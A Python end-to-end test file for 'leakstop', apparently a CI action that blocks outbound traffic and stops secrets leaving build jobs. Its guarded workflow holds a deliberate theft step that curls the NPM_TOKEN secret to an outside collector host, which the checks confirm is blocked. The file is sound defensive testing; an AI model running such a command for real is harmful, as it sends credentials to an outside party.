# SPDX-License-Identifier: MIT
"""The action from end to end, as a user who may become root with sudo."""

from __future__ import annotations

from e2e.acting import ACTION
from lab import tokens
from lab.network import BARE
from vm.runner.machine import RUNNER, Job, Machine, once
from vm.runner.traces import nothing

_SECRET = tokens.npm()
_CLEAN = f"""
- uses: {ACTION}
  with: {{allow: home.test}}
- run: curl -sS https://home.test/
"""
_GUARDED = f"""
- uses: {ACTION}
  with:
    mode: block
    allow: home.test
    secrets: NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}}
- id: user
  run: id -u; sudo -n id -u; cat /etc/resolv.conf
- id: named
  run: curl -sS -m 20 https://home.test/
- id: unnamed
  run: curl -sS -m 20 https://other.test/ || echo "curl ended with $?"
- id: unit
  run: |
    unit=$(systemctl list-units --plain --no-legend 'leakstop-*.service' | cut -d ' ' -f 1)
    systemctl show "$unit" -p Id -p ActiveState -p SubState -p ControlGroup -p MainPID
    pid=$(systemctl show "$unit" -p MainPID --value)
    echo "uid=$(stat -c %u "/proc/$pid")"
    echo "cgroup=$(cut -d : -f 3 "/proc/$pid/cgroup")"
- id: traces
  run: sudo -n env PYTHONPATH=/leakstop/agent:/leakstop/tests python3 -B -m vm.runner.traces
- id: collect
  run: curl -s -m 20 -d "${{{{ secrets.NPM_TOKEN }}}}" http://{BARE}/
"""


@once
def clean(machine: Machine) -> Job:
    """A job in which nothing happens, in audit mode."""
    return machine.run(_CLEAN)


@once
def guarded(machine: Machine) -> Job:
    """A job in block mode with a theft in it."""
    return machine.run(_GUARDED, secrets=[_SECRET])


def check_a_clean_job_passes(machine: Machine) -> bool:
    outcome = clean(machine).outcome
    (run,) = outcome.record("run")
    seen = (run["coverage"]["sensor"], run["coverage"]["lost_events"])
    return not outcome.red and seen == ("kernel", 0) and outcome.annotations() == []


def check_a_clean_job_leaves_nothing(machine: Machine) -> bool:
    return nothing(clean(machine).left)


def check_the_job_is_an_ordinary_user_who_may_become_root(machine: Machine) -> bool:
    said = guarded(machine).outcome.said("Main", "user").split()
    return said[:2] == [str(RUNNER), "0"] and "127.0.0.53" in said


def check_block_allows_a_named_host_through_the_stub(machine: Machine) -> bool:
    """The address was learned from the answer of the server that the stub asks."""
    return guarded(machine).outcome.said("Main", "named") == "ok\n"


def check_block_denies_an_unnamed_host(machine: Machine) -> bool:
    said = guarded(machine).outcome.said("Main", "unnamed")
    return "curl ended with" in said and machine.internet.other.connections == []


def check_the_agent_is_a_unit_of_systemd(machine: Machine) -> bool:
    """And root's process, in a cgroup of its own beside the job's."""
    said = guarded(machine).outcome.said("Main", "unit")
    shown = dict(line.split("=", 1) for line in said.splitlines())
    own = f"/system.slice/{shown['Id']}"
    state = (shown["ActiveState"], shown["SubState"], shown["uid"])
    return state == ("active", "running", "0") and shown["cgroup"] == shown["ControlGroup"] == own


def check_what_is_in_force_can_be_seen(machine: Machine) -> bool:
    """If it could not, nothing would ever be left."""
    seen = guarded(machine).outcome.said("Main", "traces").splitlines()
    return all(
        any(line.startswith(mark[0]) and mark[1] in line for line in seen)
        for mark in (
            ("/run/leakstop/job-", "/control.sock"),
            ("/run/leakstop/code-", ""),
            ("systemctl: leakstop-", ".service"),
            ("/sys/fs/cgroup/system.slice/leakstop-", ".service"),
            ("", " - bpf bpf "),
            ("link ", ""),
        )
    )


def check_a_secret_on_its_way_to_a_stranger_dies_and_the_job_is_red(machine: Machine) -> bool:
    outcome = guarded(machine).outcome
    titles = [error.title for error in outcome.annotations("error")]
    return (
        outcome.red
        and "Leakstop: a secret was stopped on its way out" in titles
        and machine.internet.collector.connections == []
        and outcome.shows(_SECRET) == []
    )


def check_a_red_job_leaves_nothing(machine: Machine) -> bool:
    return nothing(guarded(machine).left)
